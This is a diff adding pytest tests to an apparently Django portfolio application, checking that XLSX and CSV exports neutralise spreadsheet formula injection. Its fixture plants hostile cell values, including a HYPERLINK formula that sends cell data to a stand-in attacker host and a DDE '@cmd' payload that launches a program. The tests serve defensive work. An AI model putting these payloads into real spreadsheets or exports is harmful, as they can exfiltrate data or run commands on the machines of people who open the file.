@@ -120,3 +120,50 @@ def test_an_empty_portfolio_exports_empty_tables(portfolio, leader, login_client
     assert sheet_rows(book["Resultater"])[1:] == []
     response = login_client(leader).get(reverse("portfolio:export_csv", args=[portfolio.pk]) + "?table=nonsense")
     assert "results" in response["Content-Disposition"]
+
+
+FORMULA = '=HYPERLINK("http://angriper.example/?x="&A1,"Klikk")'
+
+
+@pytest.fixture
+def hostile(worked, portfolio, leader):
+    """Measure and scenario names that a spreadsheet would run as formulas if exported as typed."""
+    measure = worked["M6"]
+    measure.name = FORMULA
+    measure.save()
+    services.create_scenario(portfolio, leader, name="+SUM(1;1)", kind="political", measures=[worked["M1"]])
+    m5 = worked["M5"]
+    m5.name = "@cmd|' /C calc'!A0"
+    m5.save()
+
+
+def test_an_xlsx_export_writes_user_text_as_strings_never_formulas(hostile, portfolio, leader, login_client):
+    response = login_client(leader).get(reverse("portfolio:export_xlsx", args=[portfolio.pk]))
+    book = openpyxl.load_workbook(io.BytesIO(response.content))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert formulas == []
+    names = [row[1] for row in sheet_rows(book["Resultater"])[1:]]
+    assert FORMULA in names
+    assert "@cmd|' /C calc'!A0" in names
+    assert "+SUM(1;1)" in sheet_rows(book["Utvalg per scenario"])[0]
+
+
+@pytest.mark.parametrize("table", ["results", "measures", "selection"])
+def test_a_csv_export_puts_an_apostrophe_before_text_that_would_start_a_formula(
+    hostile, portfolio, leader, login_client, table
+):
+    response = login_client(leader).get(reverse("portfolio:export_csv", args=[portfolio.pk]) + f"?table={table}")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + FORMULA in cells
+    assert "'@cmd|' /C calc'!A0" in cells
+    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
+    if table == "selection":
+        assert "'+SUM(1;1)" in rows[0]
+
+
+def test_negative_numbers_in_a_csv_export_stay_numbers():
+    table = exports.Table("t", "T", [exports.Column("Navn"), exports.Column("Beløp", "amount")], [["-1 tiltak", -2.5]])
+    rows = list(csv.reader(io.StringIO(exports.csv_bytes(table).decode("utf-8-sig")), delimiter=";"))
+    assert rows[1] == ["'-1 tiltak", "-2,5"]
